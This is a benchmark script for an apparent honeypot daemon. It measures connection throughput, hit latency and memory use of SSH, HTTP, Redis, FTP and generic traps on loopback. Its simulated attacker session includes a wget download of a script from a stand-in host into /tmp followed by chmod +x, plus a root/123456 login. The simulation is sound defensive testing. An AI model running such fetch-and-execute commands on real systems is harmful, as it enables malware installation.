// bench/traps: connections/s absorbed per trap kind by a real trapd (loopback, real busd), the
// first contact → `hit` published latency (connect() call → hit delivered to a bus subscriber,
// p50/p99), trapd's RSS (from its health reports) under that load, and its RSS per idle open
// connection (conn-memory.ts). Every figure is printed beside its goal, and again in a table at the end.
//   bun bench/traps/run.ts [seconds per kind, default 5] [concurrency, default 64]
import { createConnection } from "node:net";
import { Client as SshClient } from "ssh2";
import { engineEnv } from "@honeymesh/runtime/engine-env";
import { TestNode, freePort, waitFor, waitForPort } from "../../test/support/bus-node.ts";
import { bytesPerConnection } from "./conn-memory.ts";

const SECONDS = Number(process.argv[2] ?? 5);
const CONCURRENCY = Number(process.argv[3] ?? 64);

const node = await new TestNode().init();
await node.startBusd();
const ports = { ssh: freePort(), http: freePort(), redis: freePort(), generic: freePort(), telnet: freePort(), ftp: freePort(), smtp: freePort(), mysql: freePort() };
const env: Record<string, string> = {
  // The JS engine settings every launch path gives trapd ([node] memory_hint_mb's default): measured as deployed.
  ...engineEnv("trapd", 256),
  HONEYMESH_TRAPS_BIND: "127.0.0.1",
  HONEYMESH_TRAPS_AUTH_DELAY_MS: "0",
  HONEYMESH_TRAPS_MAX_CONCURRENT: "8192",
  HONEYMESH_TRAPS_MAX_CONCURRENT_PER_SOURCE: "8192",
  HONEYMESH_TRAPS_MAX_CONCURRENT_PER_PREFIX: "8192",
  HONEYMESH_TRAPS_GENERIC_ENABLED: "true",
  HONEYMESH_TRAPS_GENERIC_PORTS: String(ports.generic),
  HONEYMESH_TRAPS_GENERIC_BANNER: "220 ready",
  HONEYMESH_NODE_HEALTH_INTERVAL_S: "0.5",
};
for (const t of ["ssh", "http", "redis", "telnet", "ftp", "smtp", "mysql"] as const) env[`HONEYMESH_TRAPS_${t.toUpperCase()}_PORT`] = String(ports[t]);
const trapd = node.spawn([process.execPath, "services/trapd/src/main.ts"], env);

const sub = await node.client("honeymesh");
const started = new Map<string, number>(); // source address → connect() time
const latencies: number[] = [];
let rss = 0;
let lastRss = 0;
let reports = 0;
/** Highest RSS reported during the current phase (printed with each rate: where the peak comes from). */
let phaseRss = 0;
await sub.subscribe("trapd", "hit", (h) => {
  const t0 = started.get(h.src);
  if (t0 !== undefined) {
    latencies.push(performance.now() - t0);
    started.delete(h.src);
  }
});
await sub.subscribe("trapd", "health", (h) => {
  rss = Math.max(rss, h.rss_bytes);
  phaseRss = Math.max(phaseRss, h.rss_bytes);
  lastRss = h.rss_bytes;
  reports++;
});
let peakRss = 0;

/** Every figure with its goal (undefined: measured, no goal), for the table at the end. */
const figures: { name: string; value: string; goal: string; met?: boolean }[] = [];
function figure(name: string, value: string, goal?: { text: string; met: boolean }): void {
  figures.push({ name, value, goal: goal?.text ?? "—", met: goal?.met });
  console.log(`${name.padEnd(44)} ${value.padStart(14)}   ${goal ? `goal ${goal.text}: ${goal.met ? "met" : "NOT MET"}` : ""}`);
}
const MB = (b: number) => `${(b / 1048576).toFixed(1)} MB`;
await waitForPort(ports.generic);
await waitFor(() => rss > 0, 10_000, "trapd health");

/** One TCP session: send `hello` once connected, close after the first reply (or at once). */
function tcpSession(port: number, hello: string | undefined): Promise<void> {
  const t0 = performance.now();
  return new Promise((resolve) => {
    Bun.connect({
      hostname: "127.0.0.1",
      port,
      socket: {
        open(s) {
          void t0;
          s.setNoDelay?.(true);
          if (hello) s.write(hello);
          else s.end();
        },
        data(s) {
          s.end();
        },
        close: () => resolve(),
        error: () => resolve(),
      },
    }).catch(() => resolve());
  });
}

/** A full SSH handshake up to the first (refused) password attempt. */
function sshSession(port: number): Promise<void> {
  return new Promise((resolve) => {
    const c = new SshClient();
    const done = () => {
      c.end();
      resolve();
    };
    c.on("error", done).on("close", done).on("ready", done);
    c.connect({ host: "127.0.0.1", port, username: "root", password: "x", readyTimeout: 10_000, tryKeyboard: false });
  });
}

/**
 * Per idle connection: what trapd took before it was cut (this bench against trapd of 7e676a2,
 * 2026-12-01, same 2-core machine, mean of two runs): the goal is below it. The figures move by
 * ±0.3 KiB (generic) and ±1.5 KiB (ssh) between runs.
 */
const PER_CONN_GOAL_KIB: Record<string, number> = { generic: 1.45, ssh: 5.9 };

const SHELL_COMMANDS = ["echo ok", "uname -a", "cat /proc/cpuinfo", "id", "w", "free -m", "ls -la /tmp", "cd /tmp", "wget http://203.0.113.50/bins/x.sh -O /tmp/x", "chmod +x /tmp/x"];

/**
 * An interactive session on the SSH trap's fake shell: login with a credential the default policy
 * accepts, a pty shell, 10 commands, exit. `hold` keeps the shell open until released instead.
 */
function shellSession(port: number, hold?: Promise<void>): Promise<boolean> {
  return new Promise((resolve) => {
    const c = new SshClient();
    let ok = false;
    const done = () => {
      c.end();
      resolve(ok);
    };
    c.on("error", done).on("close", done);
    c.on("ready", () => {
      c.shell({ term: "xterm", rows: 24, cols: 80 }, (err, stream) => {
        if (err) return done();
        stream.on("close", done).on("data", () => {});
        if (hold) {
          stream.write("uname -a\n");
          ok = true;
          void hold.then(() => stream.end("exit\n"));
          return;
        }
        for (const cmd of SHELL_COMMANDS) stream.write(`${cmd}\n`);
        ok = true;
        stream.end("exit\n");
      });
    });
    c.connect({ host: "127.0.0.1", port, username: "root", password: "123456", readyTimeout: 15_000, tryKeyboard: false });
  });
}

/** trapd's RSS while `n` interactive shells are open at once (from its health reports). */
async function heldShells(port: number, n: number): Promise<void> {
  let release!: () => void;
  const hold = new Promise<void>((r) => (release = r));
  const sessions: Promise<boolean>[] = [];
  for (let i = 0; i < n; i += 20) {
    for (let j = i; j < Math.min(n, i + 20); j++) sessions.push(shellSession(port, hold));
    await Bun.sleep(50);
  }
  await Bun.sleep(3_000);
  peakRss = Math.max(peakRss, rss);
  rss = 0;
  await waitFor(() => rss > 0, 5_000, "trapd health under held shells");
  const held = rss;
  peakRss = Math.max(peakRss, rss);
  release();
  const opened = (await Promise.all(sessions)).filter(Boolean).length;
  figure(`trapd RSS, ${opened}/${n} interactive shells open`, MB(held), { text: "≤ 150 MB", met: held <= 150 * 1048576 });
}

/** First contact → hit published, each from its own loopback address (127.1.x.y), so no hit is coalesced. */
async function firstContact(port: number, n: number, perSecond: number): Promise<void> {
  latencies.length = 0;
  for (let i = 0; i < n; i++) {
    const src = `127.1.${1 + Math.floor(i / 250)}.${1 + (i % 250)}`;
    const t0 = performance.now();
    const c = createConnection({ host: "127.0.0.1", port, localAddress: src }, () => c.end());
    started.set(src, t0);
    c.on("error", () => {});
    await Bun.sleep(1000 / perSecond);
  }
  await Bun.sleep(500);
  const sorted = [...latencies].sort((a, b) => a - b);
  const q = (p: number) => (sorted.length ? sorted[Math.min(sorted.length - 1, Math.floor(sorted.length * p))]!.toFixed(2) : "n/a");
  figure(`first contact → hit, p50 (${perSecond}/s, distinct sources)`, `${q(0.5)} ms`);
  const p99 = sorted.length === n ? Number(q(0.99)) : Number.POSITIVE_INFINITY;
  figure(`first contact → hit, p99 (${sorted.length}/${n} hits)`, `${q(0.99)} ms`, { text: "≤ 5 ms, every hit", met: p99 <= 5 });
}

/** Goals in connections/s, by kind. */
const RATE_GOALS: Record<string, number> = { generic: 5_000, ssh: 300 };

async function run(kind: string, one: () => Promise<void>): Promise<void> {
  const end = performance.now() + SECONDS * 1000;
  let n = 0;
  phaseRss = 0;
  await Promise.all(
    Array.from({ length: CONCURRENCY }, async () => {
      while (performance.now() < end) {
        await one();
        n++;
      }
    }),
  );
  await Bun.sleep(300);
  const rate = n / SECONDS;
  const goal = RATE_GOALS[kind];
  const load = (await Bun.file("/proc/loadavg").text()).split(" ")[0];
  figure(`${kind} (load ${load}, RSS ≤ ${(phaseRss / 1048576).toFixed(0)} MB)`, `${rate.toFixed(0)} conn/s`, goal === undefined ? undefined : { text: `≥ ${goal} conn/s`, met: rate >= goal });
}

/** trapd's RSS per idle open connection to a trap that speaks first (conn-memory.ts). */
async function perConnection(kind: string, port: number, n: number): Promise<void> {
  const feed = { rss: () => lastRss, reports: () => reports };
  // A first round warms the allocator (and lets a collection run or not) so the figure is the
  // steady cost and not where the heap happened to be; the second round is the figure.
  await bytesPerConnection(feed, port, n);
  const { perConn, opened } = await bytesPerConnection(feed, port, n);
  peakRss = Math.max(peakRss, rss);
  figure(`trapd RSS per open ${kind} connection (${opened}/${n})`, `${(perConn / 1024).toFixed(1)} KiB`, { text: `< ${PER_CONN_GOAL_KIB[kind]} KiB (before)`, met: perConn < PER_CONN_GOAL_KIB[kind]! * 1024 });
}

try {
  console.log(`trapd bench: ${SECONDS} s per kind, ${CONCURRENCY} concurrent clients, loopback (ssh+shell = interactive sessions/s, login + 10 commands)`);
  // Idle connections and held shells first, so the figures are theirs and not the heap left by the load phases below.
  // 8 000 generic connections (RSS per connection is ~1 KiB there: fewer drown in the heap's noise).
  await perConnection("generic", ports.generic, 8_000);
  await perConnection("ssh", ports.ssh, 2_000);
  await heldShells(ports.ssh, 200);
  await run("warm-up", () => tcpSession(ports.generic, undefined));
  await run("generic", () => tcpSession(ports.generic, undefined));
  // Most scanners send a probe; a client that half-closes at once (above) costs Bun far more.
  await run("generic+line", () => tcpSession(ports.generic, "hello\r\n"));
  await run("http", () => tcpSession(ports.http, "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"));
  await run("redis", () => tcpSession(ports.redis, "PING\r\n"));
  await run("ftp", () => tcpSession(ports.ftp, "USER root\r\n"));
  await run("ssh", () => sshSession(ports.ssh));
  // Interactive: login + 10 commands + exit on the fake shell (issue 16).
  await run("ssh+shell", async () => void (await shellSession(ports.ssh)));
  await firstContact(ports.generic, 500, 200);
  await Bun.sleep(1_200);
  peakRss = Math.max(peakRss, rss);
  figure("trapd peak RSS (health reports, whole bench)", MB(peakRss), { text: "≤ 150 MB", met: peakRss <= 150 * 1048576 });
  console.log("\nfigure".padEnd(46) + "value".padStart(14) + "   goal");
  for (const f of figures) console.log(`${f.name.padEnd(44)} ${f.value.padStart(14)}   ${f.goal}${f.met === undefined ? "" : f.met ? "  met" : "  NOT MET"}`);
} finally {
  // A failed run must not leave trapd or busd behind.
  trapd.kill("SIGTERM");
  await node.stop();
}
process.exit(0);
